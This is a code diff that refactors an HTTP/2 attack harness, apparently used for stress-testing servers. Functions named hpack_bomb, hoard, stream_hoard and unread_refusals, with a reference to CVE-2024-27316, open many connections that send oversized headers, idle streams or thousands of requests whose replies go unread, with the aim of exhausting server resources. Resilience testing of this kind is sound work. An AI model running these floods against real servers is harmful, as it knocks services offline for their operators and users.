@@ -12,6 +12,7 @@ from http2_bytes import (CLASSIFY, DATA, DEFAULT_FRAME_SIZE, END_HEADERS,
 from questions import ASK_SCHEMA, REFLECTION, begun, streams
 
 AT_ONCE = 8
+SMALL_BUFFER = 4096
 HELLO = PREFACE + settings()
 
 # --- CONTINUATION (CVE-2024-27316 and its kin) --------------------------------
@@ -104,50 +105,48 @@ def hpack_bomb(crowd, scale):
 # --- Lists and padding --------------------------------------------------------
 
 
+def and_stays(blob, scale):
+    """Says all of it, and nothing more while the attack lasts."""
+    def script(me):
+        yield blob
+        yield 2 * scale.seconds
+    return script
+
+
 def hoard(crowd, scale):
     """Calls that stay open, each with headers of its own, as many as it may."""
     blob = HELLO + b"".join(
         headers(stream, PLAIN + literal(b"x-hoard", b"%07d" % stream * 1000))
         for stream in streams(256))
 
-    def script(me):
-        yield blob
-        yield 2 * scale.seconds
-
     connections = scale.crowd // 4
-    crowd.run([script] * connections, connections)
+    crowd.run([and_stays(blob, scale)] * connections, connections)
     return f"{connections} x 256 open calls with 7 KB of headers each"
 
 
 def stream_hoard(crowd, scale):
     """Chats that have begun, with large headers, and say no more."""
     chat = block(REFLECTION)
-    blob = PREFACE + settings() + b"".join(
+    blob = HELLO + b"".join(
         headers(stream, chat + literal(b"x-hoard", b"%07d" % stream * 1000))
         + data(stream, ASK_SCHEMA, 0)
         for stream in streams(256))
 
-    def script(me):
-        yield blob
-        yield 2 * scale.seconds
-
     connections = scale.crowd // 16
-    crowd.run([script] * connections, connections)
+    crowd.run([and_stays(blob, scale)] * connections, connections)
     return f"{connections} x 256 quiet streams with 7 KB of headers each"
 
 
 def unread_refusals(crowd, scale):
     """Calls of methods with long names that are not there, and no reading."""
     long_path = check_with((":path", "/" + "%" * 255))
-    blob = b"".join(headers(stream, long_path, flags=END_HEADERS | END_STREAM)
-                    for stream in streams(5000))
-
-    def script(me):
-        yield PREFACE + settings() + blob
-        yield 2 * scale.seconds
+    blob = HELLO + b"".join(
+        headers(stream, long_path, flags=END_HEADERS | END_STREAM)
+        for stream in streams(5000))
 
     connections = scale.crowd // 5
-    crowd.run([script] * connections, connections, Reads.ON_DEMAND, 4096)
+    crowd.run([and_stays(blob, scale)] * connections, connections,
+              Reads.ON_DEMAND, SMALL_BUFFER)
     return f"{connections} x 5,000 refusals of 850 bytes that nobody reads"
 
 
